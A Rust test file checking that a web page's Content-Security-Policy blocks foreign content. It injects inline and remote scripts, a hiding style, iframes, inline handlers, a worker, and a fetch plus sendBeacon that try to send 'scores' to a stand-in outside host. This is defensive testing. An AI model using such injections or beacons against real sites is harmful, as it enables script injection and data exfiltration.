//! The page's Content-Security-Policy. Every other test shows that it blocks nothing of the page's
//! own: a violation is reported in the console, which must stay empty.

use super::session::console_of;

/// Records in `refused` what the policy blocks, and offers `add` to try things. What runs all the
/// same reports itself in `broken`.
pub const NOTE_REFUSALS: &str = r#"
    const done = arguments[0];
    const refused = new Set();
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.add(effectiveDirective));
    const add = (name, properties) => document.body.append(Object.assign(document.createElement(name), properties));
    window.broken = [];"#;

#[test]
fn what_is_not_of_the_page_is_refused() {
    let console = console_of(async |page| {
        page.open("").await;
        page.done().await;
        let script = format!(
            "{NOTE_REFUSALS}{}",
            r#"
            add("script", { textContent: "broken.push('a script')" });
            add("script", { src: "https://elsewhere.invalid/script.js" });
            add("script", { src: "data:text/javascript,broken.push('an address')" });
            add("style", { textContent: "body { display: none }" });
            add("base", { href: "https://elsewhere.invalid/" });
            add("img", { src: "https://elsewhere.invalid/picture.png" });
            add("object", { data: "https://elsewhere.invalid/thing" });
            add("iframe", { src: "https://elsewhere.invalid/" });
            const button = document.createElement("button");
            button.setAttribute("onclick", "broken.push('a handler')");
            document.body.append(button);
            button.click();
            setTimeout("broken.push('a text')");
            try { new Worker(URL.createObjectURL(new Blob(["close()"]))); } catch {}
            fetch("https://elsewhere.invalid/").catch(() => navigator.sendBeacon("https://elsewhere.invalid/", "scores"));
            setTimeout(() => done([[...refused].sort(), broken, getComputedStyle(document.body).display]), 500);"#
        );
        let (refused, broken, display): (Vec<String>, Vec<String>, String) = page.wait_for(&script, vec![]).await;
        assert_eq!(broken, Vec::<String>::new(), "nothing foreign has run");
        assert_ne!(display, "none", "nor styled the page");
        let expected = [
            "base-uri", "connect-src", "frame-src", "img-src", "object-src", "script-src", "script-src-attr",
            "script-src-elem", "style-src-elem", "worker-src",
        ];
        assert_eq!(refused, expected);
        // And the page keeps working.
        page.press("500 questions").await;
        assert_eq!(page.done().await.pairs, Some(500));
    });
    assert!(!console.is_empty(), "the browser tells what it refuses");
}
